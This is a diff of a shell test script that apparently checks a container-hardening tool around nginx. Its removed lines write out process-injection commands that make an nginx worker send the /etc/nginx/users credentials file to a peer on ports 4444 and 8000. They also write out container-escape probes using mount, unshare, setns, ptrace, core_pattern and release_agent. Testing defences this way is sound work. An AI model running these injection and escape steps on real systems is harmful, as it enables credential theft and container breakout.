@@ -172,12 +172,7 @@ rare_new_page() {
 }
 
 rare_certificate() {
-	local tls
-	tls=$(image_path nginx /etc/nginx/tls)
-	openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj /CN=service.example -keyout "$tls/key.pem.new" \
-		-out "$tls/cert.pem.new" 2>/dev/null
-	mv "$tls/key.pem.new" "$tls/key.pem"
-	mv "$tls/cert.pem.new" "$tls/cert.pem"
+	certificate_renew nginx /etc/nginx/tls
 	reload_service
 }
 
@@ -249,11 +244,7 @@ attack_code_connect() {
 	harm read /etc/nginx/users
 	harm connect "$peer_address:4444"
 	thief_begin
-	# shellcheck disable=SC2016 # the debugger's variables
-	inject_pid "$(tasks_named nginx 'nginx: worker' | head -n 1)" 'set $a = (char *) malloc(256)' \
-		'set {long} $a = 0x0100580a5c110002' 'set {long} ($a + 8) = 0' 'set $s = (int) socket(2, 1, 0)' \
-		'print ((int (*)(int, char *, int)) connect)($s, $a, 16)' 'set $f = (int) open("/etc/nginx/users", 0)' \
-		'print (long) sendfile($s, $f, 0, 4096)' 'print (int) close($f)' 'print (int) close($s)'
+	code_sends "$(tasks_named nginx 'nginx: worker' | head -n 1)" /etc/nginx/users 4444
 	thief_got editor
 }
 
@@ -298,17 +289,7 @@ attack_scan() {
 
 # Ways out of a container, each tried by code inside the master.
 attack_escape() {
-	harm call mount
-	harm call unshare
-	harm call setns
-	harm call mknodat
-	harm call ptrace
-	inject_pid "${container_pid[nginx]}" 'print (int) mount("none", "/mnt", "tmpfs", 0, 0)' \
-		'print (int) unshare(0x10000000)' 'print (int) setns(0, 0)' \
-		'print (int) mknod("/tmp/disk", 0060600, 0x800)' 'print (long) ptrace(16, 2, 0, 0)' \
-		'print (int) open("/proc/sys/kernel/core_pattern", 1)' \
-		'print (int) open("/sys/fs/cgroup/release_agent", 1)' | grep -q = &&
-		alive "${container_pid[nginx]}"
+	code_escapes "${container_pid[nginx]}"
 }
 
 # Every page, and every upload, by one who has the password.
@@ -335,11 +316,7 @@ adaptive_tamper() {
 adaptive_upstream() {
 	harm read /etc/nginx/users
 	harm connect "$peer_address:8000"
-	# shellcheck disable=SC2016 # the debugger's variables
-	inject_pid "$(tasks_named nginx 'nginx: worker' | head -n 1)" 'set $a = (char *) malloc(4096)' \
-		'set {long} $a = 0x0100580a401f0002' 'set {long} ($a + 8) = 0' 'set $s = (int) socket(2, 1, 0)' \
-		'print ((int (*)(int, char *, int)) connect)($s, $a, 16)' 'set $f = (int) open("/etc/nginx/users", 0)' \
-		'print (long) sendfile($s, $f, 0, 4096)' 'print (int) close($f)' 'print (int) close($s)'
+	code_sends "$(tasks_named nginx 'nginx: worker' | head -n 1)" /etc/nginx/users 8000
 	# Its log has the first line, which is no request.
 	until_true 10 grep -q 'PLAIN' "$stage/peer-upstream.log"
 }
